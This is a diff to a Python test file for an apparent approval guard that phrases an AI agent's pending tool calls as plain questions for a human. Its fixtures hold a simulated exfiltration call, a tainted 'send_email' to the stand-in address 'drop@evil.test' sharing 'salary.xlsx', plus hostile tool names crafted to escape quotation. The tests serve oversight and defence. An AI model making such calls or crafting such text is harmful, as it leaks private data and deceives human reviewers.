@@ -1,6 +1,7 @@
 """A question is plain words: no code, path or id, and no text of a call that poses as the guard."""
 
 import re
+from dataclasses import replace
 from itertools import product
 
 import pytest
@@ -26,7 +27,7 @@ NEVER_ASKED = frozenset(
 """Codes with words by rung or cause, or that withhold results."""
 
 
-def request(*codes, rung="tainted", channel="result", action="", role="send", why="", **more):
+def request(code, rung="tainted", channel="result", action="", role="send", why="", **more):
     """Return a request with one call."""
     receiver = AskedReceiver(
         "mail", "drop@evil.test", "external", rung, "untrusted_text", "$.to[0]",
@@ -34,19 +35,19 @@ def request(*codes, rung="tainted", channel="result", action="", role="send", wh
     )  # fmt: skip
     change = {"action": action, "rung": "unrequested", "why": why} if why else {}
     call = AskedCall(
-        "decision-1", "0123456789abcdef", "", "", "send_email", "mcp", codes, (receiver,),
+        "decision-1", "0123456789abcdef", "", "", "send_email", "mcp", (code,), (receiver,),
         '{"to": "drop@evil.test"}', role=role, action=action, change=change, **more,
     )  # fmt: skip
     return ApprovalRequest("default", "assistant", "s", "p", 0.0, 60.0, 60, (call,), errand=1.0)
 
 
-def assert_plain(question):
-    """Assert that every sentence is words."""
-    said = (question.sentence, question.reason, *question.also, question.private)
-    items = [part for one in question.items for part in (one.kind, one.reason)]
-    answers = [part for one in question.choices for part in (one.label, one.covers)]
-    for text in (*said, *items, *answers):
-        assert not CODE.search(text), text
+def assert_plain(**more):
+    """Assert that every sentence of a question is words."""
+    question = questioned([request(**more)])
+    said = [question.sentence, question.reason, *question.also, question.private]
+    said += [part for one in question.items for part in (one.kind, one.reason)]
+    said += [part for one in question.choices for part in (one.label, one.covers)]
+    assert not [text for text in said if CODE.search(text)]
     assert question.sentence.endswith(".")
     assert question.reason.endswith(".")
 
@@ -55,12 +56,11 @@ def assert_plain(question):
 def test_no_reason_code_is_in_a_question(code):
     """Every code of every rule type and of the guard itself, in every circumstance."""
     for rung, channel in product(("", *RUNGS), ("", *CHANNELS)):
-        assert_plain(questioned([request(code, rung=rung, channel=channel)]))
+        assert_plain(code=code, rung=rung, channel=channel)
     for action, why in product(NAMES, ("", *CAUSES)):
-        found = questioned([request(code, action=action, why=why, private=("read_inbox",))])
-        assert_plain(found)
+        assert_plain(code=code, action=action, why=why, private=("read_inbox",))
     for role in ROLES:
-        assert_plain(questioned([request(code, role=role.value)]))
+        assert_plain(code=code, role=role.value)
 
 
 def test_every_code_that_asks_and_every_action_has_words():
@@ -73,8 +73,7 @@ def test_a_redacted_question_has_no_text_of_the_call():
     """Neither recipient, object, excerpt nor arguments; the kinds remain."""
     one = request("provenance_tainted", action="share", object="salary.xlsx")
     text = str(redacted([one]).document())
-    for hidden in ("evil.test", "salary", "send it"):
-        assert hidden not in text
+    assert not [hidden for hidden in ("evil.test", "salary", "send it") if hidden in text]
     assert "an e-mail address" in text
 
 
@@ -82,13 +81,9 @@ def test_a_redacted_question_has_no_text_of_the_call():
 def test_text_of_a_call_stays_on_one_line_in_quotation_marks(text, many):
     """An agent chooses tool names, recipients and objects; none ends its quotation."""
     one = request("tool_unmapped", role="other", object=text)
-    call = one.calls[0]
     receiver = AskedReceiver("handle", text, "external", "unknown", "", "$.to")
-    hostile = AskedCall(**{
-        **{name: getattr(call, name) for name in call.__slots__},
-        "tool": text, "receivers": (receiver,) * many,
-    })  # fmt: skip
-    asked = ApprovalRequest("t", text, "s", "p", 0.0, 60.0, 60, (hostile,) * many)
+    hostile = replace(one.calls[0], tool=text, receivers=(receiver,) * many)
+    asked = replace(one, principal=text, calls=(hostile,) * many)
     sentence = questioned([asked]).sentence
     assert all(char.isprintable() for char in sentence)
     outside = re.sub(r"“[^“”]*”", "", sentence)
